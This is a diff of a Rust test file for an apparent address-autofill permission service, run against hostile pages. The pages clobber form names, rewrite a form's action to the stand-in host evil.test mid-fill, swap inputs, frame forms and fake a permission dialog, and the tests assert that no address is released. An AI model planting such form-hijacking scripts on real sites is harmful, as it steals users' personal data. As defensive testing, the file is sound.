@@ -1,4 +1,4 @@
-//! Pages that imitate, frame, clobber, race and flood.
+//! Hostile pages that imitate the question, frame forms, clobber names, race the fill and flood the user.
 
 use portcullis::service::protocol::{ClientRequest, Role};
 use portcullis::service::{Client, ServiceFolder};
@@ -25,8 +25,8 @@ fn hostile_pages_get_nothing() {
     stage.no_value_got_out();
 }
 
-/// Opens a page on the shop's own origin, and asks.
-fn ask_on(stage: &mut Stage, html: &str) -> String {
+/// Opens a page on the shop's own origin, and requests the address.
+fn request_on(stage: &mut Stage, html: &str) -> String {
     stage.site.put("shop.test/hostile", html);
     let url = stage.site.url("shop.test/hostile");
     stage.browser().open(&url);
@@ -48,13 +48,13 @@ fn clobbered(stage: &mut Stage) {
         <input type="hidden" name="elements"><input type="hidden" name="getAttribute"></form>"#;
     let clobbered = FORM.replace("</form>", names) + lies;
     let reply =
-        ask_on(stage, &clobbered.replace("action=\"/order\"", "action=\"https://evil.test:PORT/take\""));
+        request_on(stage, &clobbered.replace("action=\"/order\"", "action=\"https://evil.test:PORT/take\""));
     assert!(reply.contains("wrong_destination"), "{reply}");
     let hidden = FORM.replace("<label>Street", "<label style='opacity:0.01'>Street");
-    let reply = ask_on(stage, &(hidden + lies));
+    let reply = request_on(stage, &(hidden + lies));
     assert!(reply.contains("DENY.address"), "{reply}");
     // The same names on an honest form do not prevent the fill.
-    let reply = ask_on(stage, &clobbered);
+    let reply = request_on(stage, &clobbered);
     assert!(reply.contains("GRANT.address"), "{reply}");
 }
 
@@ -62,22 +62,22 @@ fn clobbered(stage: &mut Stage) {
 fn raced(stage: &mut Stage) {
     let turns = "<script>addEventListener('input', () => {
         document.forms[0].action = 'https://evil.test:PORT/take'; });</script>";
-    let reply = ask_on(stage, &format!("{FORM}{turns}"));
+    let reply = request_on(stage, &format!("{FORM}{turns}"));
     assert!(reply.contains("wrong_destination"), "{reply}");
     let values = stage.browser().values();
     assert_eq!(
         (values["street"].as_str(), values["city"].as_str()),
         (Some(""), Some("")),
-        "what was set is cleared"
+        "the filled fields are cleared"
     );
     let swapped =
         "<script>addEventListener('input', () => { for (const el of document.querySelectorAll('input'))
         el.replaceWith(el.cloneNode()); });</script>";
-    let reply = ask_on(stage, &format!("{FORM}{swapped}"));
+    let reply = request_on(stage, &format!("{FORM}{swapped}"));
     assert!(reply.contains("DENY.address"), "{reply}");
 
     // After the fill, a request to another target is not sent.
-    let reply = ask_on(stage, FORM);
+    let reply = request_on(stage, FORM);
     assert!(reply.contains("GRANT.address"), "{reply}");
     stage.browser().evaluate("document.forms[0].action = 'https://evil.test:1/take'");
     stage.browser().click("button");
@@ -90,10 +90,10 @@ fn framed(stage: &mut Stage) {
     let sandbox = "<h1>Deliver to</h1><iframe sandbox='allow-scripts allow-forms' srcdoc='<form action=/order method=post>
         <input autocomplete=street-address><input autocomplete=postal-code><input autocomplete=address-level2></form>'>
         </iframe>";
-    let reply = ask_on(stage, sandbox);
+    let reply = request_on(stage, sandbox);
     assert!(reply.contains("DENY.address"), "{reply}");
     stage.site.put("evil.test/form", FORM);
-    let reply = ask_on(
+    let reply = request_on(
         stage,
         "<h1>Deliver to</h1><iframe src='https://evil.test:PORT/form' width=600 height=400></iframe>",
     );
@@ -108,7 +108,7 @@ fn imitated(stage: &mut Stage) {
     let imitation = format!(
         "{FORM}<dialog open><h2>Portcullis asks</h2><button id=yes>Yes, fill it in</button></dialog>"
     );
-    let reply = ask_on(stage, &imitation);
+    let reply = request_on(stage, &imitation);
     stage.browser().click("#yes");
     assert!(!(reply + &stage.agent(Some(REQUEST))).contains("GRANT"));
     let values = stage.browser().values();
@@ -136,7 +136,7 @@ fn unreachable(stage: &mut Stage) {
     assert_eq!(tried, serde_json::json!(["refused", "refused", "refused", "undefined"]));
 }
 
-/// A page of many frames, and an agent that asks without end: the person gets a handful of questions.
+/// A page of many frames, and an agent that asks without end: the user gets at most five questions.
 fn flooded(stage: &mut Stage) {
     let many = "<iframe srcdoc='<form action=/order method=post><input autocomplete=street-address></form>'></iframe>";
     stage.site.put("shop.test/many", &format!("{FORM}{}", many.repeat(120)));
@@ -161,6 +161,6 @@ fn flooded(stage: &mut Stage) {
     let granted = replies.iter().flatten().filter(|reply| reply.to_string().contains("GRANT")).count();
     assert_eq!(granted, 0);
     let asked = stage.asked().matches("Your answer").count();
-    assert!(asked <= 5, "the person was asked {asked} times");
-    assert!(replies.iter().any(Option::is_none), "all thirty were listened to at the same time");
+    assert!(asked <= 5, "the user was asked {asked} times");
+    assert!(replies.iter().any(Option::is_none), "the service served all thirty at the same time");
 }
